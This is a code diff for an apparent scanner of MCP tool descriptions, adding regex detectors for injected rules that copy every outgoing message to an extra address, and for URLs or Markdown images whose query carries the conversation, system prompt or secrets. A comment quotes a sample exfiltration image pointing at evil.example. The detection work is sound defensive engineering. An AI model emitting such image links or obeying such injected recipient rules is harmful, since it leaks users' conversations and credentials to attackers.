@@ -50,6 +50,12 @@ const (
 	// is read in "full_conversation_history" as in prose.
 	nameGap = `(?:[\s"'()\[\]{},«»「」『』…_-]|\.\.\.?)+`
 	toolish = `[a-z][a-z0-9]*(?:[_-][a-z0-9]+)+`
+	// recipientAddr is an e-mail address or a phone number, where a
+	// message goes.
+	recipientAddr = `(?:[\w.+-]+@[\w-]+\.[\w.]+|\+\d[\d -]{6,16}\d)`
+	// urlThing is what a URL's query must not carry: the conversation,
+	// the user's messages, a summary of them, the system prompt, secrets.
+	urlThing = `conversation|chat|summary|history|transcript|prompt|(?:the\s+)?user'?s\s+(?:last\s+|latest\s+|previous\s+|first\s+)?messages?|(?:last|latest|previous)\s+messages?|api[ _-]?keys?|tokens?|passwords?|secrets?|credentials?`
 	// aside is a parenthesis a reader reads past before a tool's name:
 	// its server's, "when (mcp_whatsapp) send_message is invoked".
 	aside = `(?:\([^()\n]{0,40}\)\s*)?`
@@ -220,6 +226,17 @@ var patterns = []*pattern{
 		also:     []string{"bcc", "cc", "redirect", "reroute", "forward", "send"},
 		re: re(`\b(?:always|must)\b[^.\n]{0,60}\b(?:bcc|cc|redirect|reroute|forward|send)\b[^.\n]{0,60}[\w.+-]+@[\w-]+\.[\w.]+` +
 			`|\b(?:bcc|cc|redirect|reroute|forward)\b[^.\n]{0,60}[\w.+-]+@[\w-]+\.[\w.]+[^.\n]{0,60}\b(?:always|every|all|each)\b`)},
+	{rule: rules.TextShadowing, what: "a rule that adds a recipient to every message",
+		triggers: []string{"@", "+"},
+		also:     []string{"mail", "message", "sms", "text"},
+		also2:    []string{"every", "all ", "any ", "each ", "outgoing", "when sending", "when you send"},
+		re: re(`\b(?:e-?mails?|messages?|mails?)\b[^.\n]{0,60}\b(?:must|should|shall|need|needs|always)\b[^.\n]{0,40}?` + recipientAddr + `[^.\n]{0,30}?\b(?:recipients?|cc|bcc|copied|copy)\b` +
+			`|\b(?:e-?mails?|messages?|mails?)\b[^.\n]{0,60}\b(?:must|should|shall|need|needs|always)\b[^.\n]{0,30}?\b(?:copied|cc'?d|bcc'?d|sent|forwarded|cc|bcc)\s+(?:to\s+)?` + recipientAddr +
+			`|\bwhen\s+(?:sending|you send|writing|composing)\s+(?:an?\s+|any\s+)?(?:[\w-]+\s+)?(?:e-?mails?|messages?|mails?|texts?|sms)\b[^.\n]{0,20}?(?:always\s+)?(?:set|change|replace|add|use)\s+(?:the\s+)?(?:recipient|to|cc|bcc)\b[^.\n]{0,20}?` + recipientAddr)},
+	{rule: rules.TextShadowing, what: "a URL that carries the conversation or a secret", token: true,
+		triggers: []string{"http://", "https://"},
+		also:     []string{"=", "followed by", "then", "plus"},
+		re:       re(`https?://[^\s)]*[?&][\w-]+=\s*(?:\+\s*)?(?:followed by|then|plus|and append)\b[^.\n]{0,40}?\b(?:` + urlThing + `)\b`)},
 	{rule: rules.TextOtherTool, what: "a tool of another server",
 		triggers: []string{"server", "mcp_", "mcp__"},
 		re: re(`\b(?:another|other|different|a second|third[- ]party)\s+(?:mcp\s+)?servers?'?s?\s+(?:tools?|functions?)\b[^.\n]{0,80}\b` + directive +
@@ -251,7 +268,25 @@ func (c *checker) phrases(i int, tool string, ptr *path, field, s string) {
 		c.phrasesOf(i, tool, ptr, field, s, fold(s), nil) // else one plain word: no pattern matches it
 	}
 	c.identifiers(i, tool, ptr, field, s, from)
+	c.images(i, tool, ptr, field, s)
 }
+
+// images finds a Markdown image whose address's query carries the
+// conversation or a secret ("![x](https://evil.example/p.png?d=
+// CONVERSATION_SUMMARY)"): a client that renders the model's answer
+// fetches it, and the query goes with it. The folding reads a link as its
+// text, so the image is read as written.
+func (c *checker) images(i int, tool string, ptr *path, field, s string) {
+	if !strings.Contains(s, "![") {
+		return
+	}
+	for _, m := range imageExfilRE.FindAllStringIndex(s, perTextMax) {
+		c.add(Signal{Rule: rules.TextShadowing, Tool: tool, Index: i, Pointer: ptr.String(), Field: field, Start: m[0], End: m[1], Match: s[m[0]:m[1]],
+			Message: place(tool, i, ptr.String(), field) + ": an image whose address carries the conversation or a secret, " + quote(s[m[0]:m[1]]) + ", in " + context(s, m[0], m[1])})
+	}
+}
+
+var imageExfilRE = re(`(?i)!\[[^\]\n]{0,200}\]\(\s*https?://[^\s)]{0,1000}?[?&][\w-]+=[^\s)&]{0,200}?(?:` + urlThing + `)`)
 
 // phrasesOf runs the patterns on each sentence of f, s folded; keep, when
 // set, says which signals to keep.
